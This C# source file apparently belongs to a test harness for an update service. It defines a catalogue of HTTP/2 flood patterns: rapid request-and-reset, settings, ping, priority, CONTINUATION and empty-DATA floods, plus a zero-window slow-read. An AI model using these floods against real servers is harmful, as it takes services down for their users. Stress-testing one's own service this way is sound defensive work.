namespace UpdateService.Attacks.Streams;

/// <summary>What a flood of HTTP/2 frames is made of: after a beginning, the same for stream after stream.</summary>
/// <param name="Window">How many bytes of an answer the client takes at first.</param>
/// <param name="First">The frames of the first stream.</param>
/// <param name="Frames">The frames of each stream.</param>
internal sealed record Flood(int Window, Func<int, byte[]> First, Func<int, byte[]> Frames)
{
    private const int MaxFrameSize = 5;
    private const int Usual = 65_535;

    public static Flood RequestAndSettings { get; } = Of(stream => [.. Streams.Frames.Request(stream, Target.Graph), .. Streams.Frames.Setting(MaxFrameSize, 16_384)]);

    public static Flood RequestAndReset { get; } = Of(stream => [.. Streams.Frames.Request(stream, Target.Graph), .. Streams.Frames.Reset(stream)]);

    public static Flood Request { get; } = Of(stream => Streams.Frames.Request(stream, Target.Graph));

    public static Flood Settings { get; } = Of(_ => Streams.Frames.Setting(MaxFrameSize, 16_384));

    public static Flood Ping { get; } = Of(_ => Streams.Frames.Ping());

    public static Flood Priority { get; } = Of(Streams.Frames.Priority);

    public static Flood Continuation { get; } = new(Usual, stream => Streams.Frames.RequestToContinue(stream, Target.Graph), _ => Streams.Frames.Continuation(1));

    public static Flood EmptyData { get; } = new(Usual, stream => Streams.Frames.RequestWithBody(stream, Target.Graph), _ => Streams.Frames.EmptyData(1));

    /// <summary>An answer that is taken byte by byte.</summary>
    public static Flood TinyWindow { get; } = new(0, stream => Streams.Frames.Request(stream, Target.Graph), _ => Streams.Frames.WindowUpdate(1, 1));

    private static Flood Of(Func<int, byte[]> frames) => new(Usual, frames, frames);
}
